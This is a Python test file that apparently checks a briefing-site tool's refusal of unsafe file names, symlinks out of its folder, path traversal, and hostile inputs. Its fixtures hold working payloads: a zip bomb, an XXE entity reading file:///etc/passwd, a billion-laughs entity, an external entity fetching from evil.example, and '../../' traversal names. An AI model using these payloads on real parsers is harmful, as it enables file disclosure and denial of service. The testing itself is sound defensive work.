"""No name, link or archive leads out of its folder, and no name breaks on another system."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from briefing import drafting
from briefing.extract.entities.canonical import slug
from briefing.ingest import Seeder, bring
from briefing.model import BriefingError, ConfigError, IngestError, filenames
from briefing.packs import verify
from briefing.render.view_models import tag_key
from briefing.storage import record_files, seed_files
from tests import desks, hostile

OUTSIDE = "Minister Ann Lee said that the secret word Quuxsecret was hers.\n"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A desk with one good seed, and a file next to the desk that is nobody's business."""
    (tmp_path / "secret.txt").write_text(OUTSIDE, "utf-8")
    made = hostile.empty(tmp_path / "desk")
    (made / "seeds" / "2025-03-01-good.txt").write_text(
        "Minister Ann Lee said that talks would go on.\n", "utf-8"
    )
    return made


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("con", "device"), ("AUX", "device"), ("nul.2025", "device"), ("com1", "device"), ("LPT9", "device"), ("com¹", "device"),
        ("a.", "full stop"), ("a ", "space"), (" a", "space"), ("a:b", "holds :"), ("a\\b", "holds \\"), ("a?b", "holds ?"),
        ("a#b", "holds #"), ("a%41", "holds %"), ("a<b>", "holds <"), ("a|b", "holds |"), ('a"b', 'holds "'), ("a*b", "holds *"),
        ("a\nb", "holds U+000A"), ("a\x1bb", "holds U+001B"), ("a\u202eb", "U+202E, which nobody sees"), ("a\u200bb", "U+200B"),
        ("é" * 101, "longer than 200 bytes"), ("x" * 201, "longer than 200 bytes"), ("index", "list of the site"), ("INDEX", "list of the site"),
    ],
)  # fmt: skip
def test_a_name_that_some_system_does_not_take_is_refused(name: str, words: str, root: Path) -> None:
    (root / "seeds" / f"{name}.txt").write_text("Some text.\n", "utf-8")
    paths, (error,) = seed_files.seed_paths(root)
    assert [path.stem for path in paths] == ["2025-03-01-good"]
    assert words in error.what
    assert "Rename it" in error.hint


@pytest.mark.parametrize(
    "name",
    [
        "2025-03-01-talks",
        "Über-Gespräche",
        "习近平",
        "a b",
        "x" * 200,
        "confer",
        "nullify",
        "com10",
        "a.b",
        "İstanbul",
    ],
)
def test_other_names_are_taken(name: str) -> None:
    assert filenames.fault(name) == ""


@pytest.mark.parametrize(
    ("one", "two"), [("Talks", "talks"), ("Zoë", "Zoe\u0308"), ("straße", "STRASSE"), ("ΣΊΣΥΦΟΣ", "σίσυφος")]
)
def test_names_that_some_system_holds_for_one_are_refused(one: str, two: str, root: Path) -> None:
    for name in (one, two):
        (root / "seeds" / f"{name}.txt").write_text("Some text.\n", "utf-8")
    _, (error,) = seed_files.seed_paths(root)
    assert "same slug" in error.what


@pytest.mark.parametrize("name", ["Con", "Index", "Letters", "Nul", "A" * 300, "Lpt1", "..", "../../x"])
def test_an_actors_name_gives_a_file_name_that_is_free(name: str) -> None:
    found = slug(name)
    assert filenames.fault(found) == ""
    assert found not in ("index", "letters")
    assert len(found) <= 90
    assert len(tag_key(name)) <= 100


def test_a_person_named_like_a_list_does_not_stop_the_site() -> None:
    entry = desks.drafted(
        "President John Index met Ann Con in Paris. Index said that talks would go on.\n" * 2
    )
    made = desks.rendered(desks.assembled([entry]))
    assert "actors/index.html" in made


def links(root: Path) -> dict[str, tuple[Path, Path]]:
    """Return (link, where it leads) by what it is."""
    outside = root.parent
    return {
        "content": (root / "content" / "leak.md", outside / "secret.txt"),
        "a record": (root / "content" / "briefs" / "leak.yml", outside / "secret.txt"),
        "a folder of content": (root / "content" / "more", outside),
        "the reference": (root / "content" / "reference" / "leak.yml", outside / "secret.txt"),
        "a template": (root / "templates" / "assets" / "leak.css", outside / "secret.txt"),
        "nothing": (root / "content" / "leak.md", outside / "nowhere"),
        "itself": (root / "content" / "leak.md", root / "content" / "leak.md"),
    }


@pytest.mark.parametrize(
    "kind", ["content", "a record", "a folder of content", "the reference", "a template", "nothing", "itself"]
)
def test_a_link_out_of_the_desk_stops_with_a_word(kind: str, root: Path) -> None:
    link, target = links(root)[kind]
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(target)
    said = hostile.run(root, "build", code=1)
    assert link.name in said
    assert "outside of the desk or not there" in said
    assert "remove the link" in said
    assert not [
        path for path in (root / "site").rglob("*") if path.is_file() and b"Quuxsecret" in path.read_bytes()
    ]
    assert link.name in hostile.run(root, "check", code=1)


def test_a_seed_that_is_a_link_out_is_refused_and_the_others_are_built(root: Path) -> None:
    (root / "seeds" / "leak.txt").symlink_to(root.parent / "secret.txt")
    (root / "seeds" / "dangling.txt").symlink_to(root.parent / "nowhere.txt")
    (root / "seeds" / "inside.txt").symlink_to("2025-03-01-good.txt")
    said = hostile.run(root, "build", code=1)
    assert "leak.txt: is a link out of the desk and was not followed" in said
    assert "dangling.txt: is a link" in said
    pages = {path.stem for path in (root / "site" / "briefs").glob("*.html") if ".embed" not in path.stem}
    assert pages == {"index", "2025-03-01-good", "inside"}
    assert not [
        path
        for path in root.rglob("*")
        if path.is_file() and not path.is_symlink() and b"Quuxsecret" in path.read_bytes()
    ]


@pytest.mark.parametrize("name", ["site", "site/briefs", "content/briefs", "content/.generated"])
def test_nothing_is_written_through_a_link(name: str, root: Path) -> None:
    outside = root.parent / "elsewhere"
    outside.mkdir()
    (outside / "kept.txt").write_text("kept", "utf-8")
    link = root / name
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(outside, target_is_directory=True)
    said = hostile.run(root, "build", code=1)
    assert name in said
    assert [path.name for path in outside.iterdir()] == ["kept.txt"]


def test_the_folder_of_seeds_may_not_lead_out(root: Path) -> None:
    (root / "seeds" / "2025-03-01-good.txt").unlink()
    (root / "seeds").rmdir()
    (root / "seeds").symlink_to(root.parent, target_is_directory=True)
    with pytest.raises(ConfigError, match="outside of the desk"):
        drafting.update(root)


@pytest.mark.parametrize("old", ["../../x", "a/b", "con", "a\u202eb", "index"])
def test_an_old_address_stays_in_its_folder(old: str, root: Path) -> None:
    hostile.run(root, "build")
    config = root / "mkdocs.yml"
    text = config.read_text("utf-8")
    config.write_text(text.replace("renamed: {}", f'renamed: {{"{old}": 2025-03-01-good}}'), "utf-8")
    said = hostile.run(root, "build", code=1)
    assert "renamed" in said


def test_an_id_stays_in_its_folder(root: Path) -> None:
    hostile.run(root, "build")
    record = record_files.record_path(root, "2025-03-01-good")
    text = record.read_text("utf-8")
    assert "id: ann-lee" in text
    record.write_text(text.replace("id: ann-lee", 'id: "../../../escaped"'), "utf-8")
    said = hostile.run(root, "build", code=1)
    assert "cannot be an id" in said
    assert not list(root.parent.rglob("escaped*"))


# -- what comes from elsewhere ------------------------------------------------------------------


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in files.items():
            out.writestr(name, data)
    return buffer.getvalue()


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PARAGRAPH = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>Text.</w:t></w:r></w:p></w:body></w:document>'.encode()
MAIL = b"From: a@example.org\nSubject: =?utf-8?q?=2E=2E/=2E=2E/x?=\nDate: Mon, 3 Mar 2025 10:00:00 +0000\n"
HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a bomb in a docx": ("a.docx", lambda: zipped({"word/document.xml": b"<a>" + b" " * 40_000_000}), "unpacks to more than"),
    "a docx in a docx": ("a.docx", lambda: zipped({"a.docx": zipped({"word/document.xml": PARAGRAPH})}), "is no document of Word"),
    "entities in a docx": ("a.docx", lambda: zipped({"word/document.xml": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}), "entities"),
    "a file of the machine": ("a.xml", lambda: b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>', "entities"),
    "a thousand laughs": ("a.xml", lambda: b'<!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><rss>&b;</rss>', "entities"),
    "a parameter entity": ("a.xml", lambda: b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><rss/>', "entities"),
    "a deep feed": ("a.xml", lambda: b"<rss>" + b"<item>" * 100_000, "broken XML"),
    "a mail of many parts": (
        "a.eml", lambda: MAIL + b'Content-Type: multipart/mixed; boundary="x"\n\n' + b"--x\nContent-Type: text/csv\n\na\n" * 20_000 + b"--x--\n", "more than 500 parts"),
    "a mail inside itself": (
        "a.eml", lambda: MAIL + b"".join(b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (n, n) for n in range(3_000)), ""),
    "deep HTML": ("a.html", lambda: b"<div>" * 100_000 + b"<p>text", ""),
    "a cut archive": ("a.docx", lambda: zipped({"word/document.xml": PARAGRAPH})[:-30], "cannot be read"),
    "a PDF of nothing": ("a.pdf", lambda: b"%PDF-1.7\n" + b"1 0 obj << /Length 99999999999 >> stream\n" * 2_000, ""),
}  # fmt: skip


@pytest.mark.parametrize(("name", "make", "words"), HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_file_is_refused_in_time(
    name: str, make: Callable[[], bytes], words: str, root: Path
) -> None:
    path = root.parent / name
    path.write_bytes(make())
    before = set(root.parent.rglob("*"))
    started = time.perf_counter()
    with pytest.raises(IngestError) as caught:
        bring(path, Seeder(root))
    assert time.perf_counter() - started < 20
    assert words in caught.value.what
    assert caught.value.hint
    assert set(root.parent.rglob("*")) == before


def test_a_feed_of_deep_entries_is_read_in_time(root: Path) -> None:
    deep = b"<b>" * 20_000 + b"x " * 50 + b"</b>" * 20_000
    path = root.parent / "a.xml"
    path.write_bytes(b"<rss><item><description>" + deep + b"</description></item></rss>")
    started = time.perf_counter()
    (made,) = bring(path, Seeder(root))
    assert time.perf_counter() - started < 20
    assert made.path is not None
    assert made.path.read_text("utf-8").endswith("\n---\n\n" + " ".join("x" * 50) + "\n")


def test_thousands_of_entries_in_a_docx_cost_nothing(root: Path) -> None:
    files = {f"word/media/{n}.xml": b"x" for n in range(5_000)} | {
        "../../../evil.txt": b"x",
        "/abs.txt": b"x",
    }
    path = root.parent / "a.docx"
    path.write_bytes(zipped({"word/document.xml": PARAGRAPH, **files}))
    started = time.perf_counter()
    (made,) = bring(path, Seeder(root))
    assert time.perf_counter() - started < 5
    assert made.path is not None
    assert made.path.parent == root / "seeds"
    assert not list(root.parent.rglob("evil*"))


def test_names_in_a_mail_lead_nowhere(root: Path) -> None:
    path = root.parent / "a.eml"
    attached = b'--x\nContent-Type: text/plain; name="../../evil.txt"\nContent-Disposition: attachment; filename="../../evil.txt"\n\nx\n'
    body = b"--x\nContent-Type: text/plain\n\nThe minister said that talks would go on.\n"
    path.write_bytes(
        MAIL
        + b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="x"\n\n'
        + body
        + attached
        + b"--x--\n"
    )
    (made,) = bring(path, Seeder(root))
    assert made.path == root / "seeds" / "2025-03-03-x.txt"
    assert "left out: the attachment ../../evil.txt" in " ".join(made.remarks)
    assert not list(root.parent.rglob("evil*"))


@pytest.mark.parametrize(
    "head",
    [
        b'<script type="application/json" id="pack.json">',
        b'<script type="text/plain" id="MANIFEST.sha256">\n',
        b'stream\n{\n "pack": ',
    ],
    ids=["facts", "manifest", "pdf"],
)
def test_a_file_of_many_beginnings_is_read_in_linear_time(head: bytes, tmp_path: Path) -> None:
    start = b"%PDF-1.7\n" if head.startswith(b"stream") else b"<!doctype html>"
    path = tmp_path / "pack.bin"
    path.write_bytes(start + head * (4_000_000 // len(head)))
    started = time.perf_counter()
    found = verify.inspect(path)
    assert time.perf_counter() - started < 3
    assert found.faults == ("it carries no proof, or more than one",)


@pytest.mark.parametrize(
    "data", [b"", b"PK", b"PK\x03\x04" + b"\0" * 99, b"%PDF-", b"<!doctype html>", b"plain"]
)
def test_what_is_no_pack_is_told(data: bytes, tmp_path: Path) -> None:
    path = tmp_path / "x"
    path.write_bytes(data)
    if data.startswith((b"PK", b"%PDF", b"<!")):
        assert verify.inspect(path).faults
        return
    with pytest.raises(BriefingError, match="is no pack") as caught:
        verify.inspect(path)
    assert caught.value.hint
